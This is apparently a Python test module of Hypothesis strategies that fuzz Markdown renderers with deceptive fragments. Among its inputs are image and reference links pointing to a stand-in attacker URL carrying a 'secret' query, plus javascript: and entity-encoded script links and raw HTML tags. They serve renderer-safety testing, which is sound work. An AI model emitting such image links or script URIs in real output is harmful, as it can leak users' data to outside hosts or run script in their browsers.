"""Strategies for Markdown that may deceive renderers."""

from hypothesis import strategies as st

EVIL = "https://evil.example/?q=secret"

MARKS = (
    "![ ![ [ ] ( ) ]( ]( ]: ` ` `` ``` ```` ~~~ ~~~~ > < \" ' ! \\ | $ & = --- # é <at> </at> <b> <div> <br> <!-- <? <p"
    " <https:// <https://a> <a`b@c.d> <1`@c.d> javascript:x &#106;avascript:x data:x [r] ![r] [r]: [^1]: /x &lt; :"
)
LINES = (
    "\n,\n,\n\n,\r,\r\n,\n> ,\n>,\n- ,- ,> ,1. ,* ,\n```\n,\n> ```\n,\n  ```\n,\n- ```\n,\n    ```\n,```py\n,\n~~~\n"
    ",|--|--|\n,\n--|--\n, ,  ,   ,    ,     ,\t,\xa0,\x0b"
)
WHOLE = [
    EVIL,
    f"![x]({EVIL})",
    "![x](https://ok.example)",
    f"\n[r]: {EVIL}\n",
    "\n[r]: https://ok.example 'title'\n",
    "[x](javascript:y)",
    "<img src=x>",
    "\n<p 3\n",
    "[a](/b `c)",
    "\n[a`b]: /x\n",
    "[x][a`b]",
    "https://a.example/`",
    "www.a.example\\",
    "a`b@c.example",
    "\n\n    <b>\n",
    "\n- a\n    ```\n",
    "`a | <b>`",
    "`$a <b>`",
    "ftp://x/",
    "~~",
    "![1]",
]
FRAGMENTS = MARKS.split() + LINES.split(",") * 2 + WHOLE * 3
HOSTILE = st.lists(st.sampled_from(FRAGMENTS), min_size=2, max_size=10).flatmap(
    lambda few: st.lists(st.sampled_from(few), max_size=25).map("".join)
)
"""Texts of a few fragments, each of which occurs often."""
SIZES = st.lists(st.integers(1, 7), max_size=60)
"""The sizes of chunks."""
